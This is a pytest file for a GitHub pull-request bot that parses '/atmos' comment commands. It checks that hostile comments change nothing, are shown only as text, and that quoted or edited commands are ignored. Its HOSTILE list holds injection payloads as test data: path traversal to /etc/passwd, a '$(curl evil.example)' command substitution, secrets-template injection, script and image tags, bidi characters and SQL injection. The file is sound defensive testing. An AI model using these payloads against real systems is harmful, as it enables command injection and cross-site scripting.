"""What is read of what people write: new comments of people on pull requests; and nothing hostile has an effect."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from bot.sandbox import example, payloads_talk
from bot.sandbox.state import Comment, Pull, User
from tests.rig import Rig, open_rig
from tests.stories.helping import CHAIN, model

ONE = {"vpc": ()}
PAUSED = "✅ `/atmos pause` by boss"
MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])

#: Said by somebody who may say much.
HOSTILE = (
    "/atmos retry ../../../etc/passwd",
    "/atmos apply dev/../dev/vpc",
    "/atmos skip $(curl${IFS}evil.example) `id` ;id",
    "/atmos cancel {{.atmos_stack}} ${{secrets.KEY}}",
    "/atmos approve dev/vpc%00 dev/vpc\x00",
    "/atmos why <img/src=https://evil.example/x.png> <script>alert(1)</script>",
    "/atmos why [click](https://evil.example) ![x](https://evil.example/x.png) https://evil.example",
    "/atmos retry @acme/admins #1 acme/infra#1",
    "/atmos skip |a|b| || --- |",
    "/atmos lock \u202edev/vpc ``` </details> <details> -->",
    "/atmos unlock \u2066dev/vpc\u2069",
    "/atmos replan dev/vpc\u200b",
    "/atmos destroy ' OR 1=1; DROP TABLE steps",
    "/atmos confirm <!--",
    "/atmos help </code><h1>x",
    "/atmos \u202ecancel --force",
    "/atmos cancel --force=true @all",
    "/atmos retry " + "../" * 600,
    "/atmos retry " + "a" * 60_000,
    "/atmos retry " + "dev/x " * 10_000,
    "/atmos retry @all\n" * 21,
)
#: What GitHub shows as somebody else's words, or as none.
QUOTED = (
    "> /atmos cancel --force\n",
    "```\n/atmos cancel --force\n```",
    "    /atmos cancel --force",
    "<details>\n\n/atmos cancel --force\n\n</details>",
    "<!--\n/atmos cancel --force\n-->",
    "- like this:\n  /atmos cancel --force",
    "Say `/atmos cancel --force`, or @switchyard /atmos cancel --force",
    "\u200b/atmos cancel --force",
    "/atmosphere\n/atmos\u2060 cancel --force",
)


def signs(comment: Comment) -> set[str]:
    return {sign for _, _, sign in comment.reactions}


async def failed(rig: Rig, role: str = "admin") -> Pull:
    """Open a pull request whose first plan fails, so that there is something to send again, and wait."""
    rig.hub.set_permission(rig.repo, "boss", role)
    rig.hub.scenario.fail(workflow=example.PLAN, component="vpc")
    pull = rig.scene.open_pull(["vpc"])
    await rig.until_quiet()
    return pull


def changed(rig: Rig, since: int) -> set[str]:
    """Name what the bot has changed at GitHub since then, by the last part of its address."""
    writes = [one for one in rig.sandbox.requests[since:] if one.method != "GET"]
    return {f"{one.method} {one.path.rstrip('0123456789').rstrip('/').rpartition('/')[2]}" for one in writes}


def acting(text: str) -> list[str]:
    """List what a hostile word has become in a text, to a Markdown parser: a link, a picture, HTML, code or a table."""
    tokens = MARKDOWN.parse(text)
    inline = [child for token in tokens for child in token.children or ()]
    found = [
        str(child.attrs) for child in inline if child.type in ("link_open", "image") and "evil" in str(child.attrs)
    ]
    found += [one.content for one in (*tokens, *inline) if one.type.startswith("html") and "evil" in one.content]
    found += [one.content for one in (*tokens, *inline) if one.type.startswith("html") and "script" in one.content]
    found += [one.type for one in tokens if one.type in ("code_block", "h1")]
    return found + [char for char in "\u202e\u2066\u2069\u200b\x00" if char in text]


@pytest.mark.parametrize("merged", [False, True], ids=["plan", "apply"])
async def test_hostile_words_change_nothing_and_are_shown_as_text(tmp_path: Path, *, merged: bool) -> None:
    async with open_rig(tmp_path, model=model(CHAIN)) as rig:
        pull = await failed(rig)
        if merged:
            rig.hub.merge(pull, by="boss")
            await rig.until_quiet()
        before, since, rows = await rig.state(pull), len(rig.sandbox.requests), table(rig.comment(pull))
        for body in HOSTILE:
            said = rig.hub.comment(pull, "boss", body)
            await rig.until_quiet()
            assert signs(said) == {"eyes", "confused"}, body[:60]
            text = rig.comment(pull)
            assert acting(text) == [], body[:60]
            assert table(text) == rows, body[:60]
            assert len(text) < 65_536
            for check in rig.repo.checks.values():
                assert acting(check.output["summary"]) == [], body[:60]
        assert await rig.state(pull) == before
        assert changed(rig, since) == {"POST reactions", "PATCH comments", "PATCH check-runs"}
        assert "The comment has 21 commands, and at most 20 are done at once" in rig.comment(pull)


def table(text: str) -> list[str]:
    """Read the table of the instances."""
    return [line for line in text.splitlines() if line.startswith("|")]


async def test_what_is_quoted_or_hidden_is_not_even_seen(tmp_path: Path) -> None:
    async with open_rig(tmp_path, model=model(CHAIN)) as rig:
        pull = await failed(rig)
        before = rig.comment(pull)
        for body in QUOTED:
            said = rig.hub.comment(pull, "boss", body)
            await rig.until_quiet()
            assert signs(said) == set(), body
        assert rig.comment(pull) == before


async def test_lines_may_end_as_browsers_and_mail_end_them(tmp_path: Path) -> None:
    async with open_rig(tmp_path, model=model(ONE)) as rig:
        rig.hub.set_permission(rig.repo, "boss", "write")
        pull = rig.scene.open_pull(["vpc"])
        await rig.until_quiet()
        lines = [
            "> Shall we?",
            "> /atmos cancel",
            "",
            "Not now:",
            "",
            "/atmos pause",
            "/atmos STATUS ",
            "",
            "-- ",
            "Boss",
        ]
        said = rig.hub.comment(pull, "boss", "\r\n".join(lines))
        await rig.until_quiet()
        assert signs(said) == {"eyes", "rocket"}
        text = rig.comment(pull)
        assert PAUSED in text
        assert "✅ `/atmos STATUS` by boss" in text
        assert "cancel" not in text


def told(rig: Rig, pull: Pull, by: User, *, action: str = "created", plain: bool = False, **changes: Any) -> None:
    """Have GitHub tell of a comment that says `/atmos pause`, on a pull request or on a plain issue."""
    comment = Comment(rig.hub.ids.next("comment"), pull, by, "/atmos pause", rig.clock(), rig.clock(), False, [])
    issue = payloads_talk.issue(rig.hub.base_url, pull)
    if plain:
        del issue["pull_request"]
    body = payloads_talk.comment(rig.hub.base_url, comment, rig.hub.app_json) | changes
    rig.hub.comments[comment.id] = comment
    rig.hub.emit("issue_comment", rig.repo, {"action": action, "issue": issue, "comment": body}, by)


async def test_only_new_comments_of_people_on_pull_requests_are_read(tmp_path: Path) -> None:
    async with open_rig(tmp_path, model=model(ONE)) as rig:
        pull = rig.scene.open_pull(["vpc"])
        await rig.until_quiet()
        boss, robot = rig.hub.user("boss"), User("robot[bot]", 4_711, "Bot")
        for one in (boss, robot):
            rig.hub.users[one.login] = one
            rig.hub.set_permission(rig.repo, one.login, "admin")
        before, since = rig.comment(pull), len(rig.sandbox.requests)
        first = rig.hub.comment(pull, "boss", "Shall I?")
        rig.hub.edit_comment(first, "/atmos pause", "boss")
        rig.hub.delete_comment(rig.hub.comment(pull, "boss", "Hm."), "boss")
        told(rig, pull, robot)
        told(rig, pull, boss, performed_via_github_app=rig.hub.app_json)
        told(rig, pull, boss, plain=True)
        told(rig, pull, boss, action="edited")
        told(rig, pull, boss, action="deleted")
        told(rig, pull, boss, body=None)
        rig.hub.add_comment(pull, rig.hub.bot, "/atmos pause")
        await rig.until_quiet()
        assert changed(rig, since) == set()
        assert [one.body for one in rig.comments(pull)] == [before, "/atmos pause"]
        told(rig, pull, boss)  # so it is not for another reason that nothing was read
        await rig.until_quiet()
        assert PAUSED in str(rig.comments(pull)[0].body)


async def test_an_edit_neither_undoes_nor_repeats_what_was_said(tmp_path: Path) -> None:
    async with open_rig(tmp_path, model=model(ONE)) as rig:
        rig.hub.set_permission(rig.repo, "boss", "write")
        pull = rig.scene.open_pull(["vpc"])
        await rig.until_quiet()
        said = rig.hub.comment(pull, "boss", "/atmos pause")
        await rig.until_quiet()
        rig.hub.edit_comment(said, "/atmos unpause", "boss")
        await rig.until_quiet()
        assert PAUSED in rig.comment(pull)
        assert "unpause` by" not in rig.comment(pull)


async def test_the_end_of_a_name_is_enough_and_what_may_mean_two_things_does_nothing(tmp_path: Path) -> None:
    async with open_rig(tmp_path, model=model({"network/vpc": (), "legacy/vpc": (), "main-db": ()})) as rig:
        rig.hub.set_permission(rig.repo, "boss", "write")
        pull = rig.scene.open_pull(["network/vpc", "legacy/vpc", "main-db"])
        await rig.until_quiet()
        rig.hub.comment(
            pull, "boss", "\n".join(f"/atmos replan {one}" for one in ("vpc", "@failed", "network", "@done"))
        )
        await rig.until_quiet()
        assert len(rig.dispatched()) == 3
        text = rig.comment(pull)
        assert "`vpc` means the component legacy/vpc and the component network/vpc; write" in text
        assert "Nothing here is failed or cancelled now." in text
        assert "`network` names nothing here; there is, for example," in text
        assert "`@done` is not known" in text
        rig.hub.comment(pull, "boss", "/atmos replan db")
        await rig.until_quiet()
        assert rig.dispatched()[3:] == ["plan dev/main-db"]
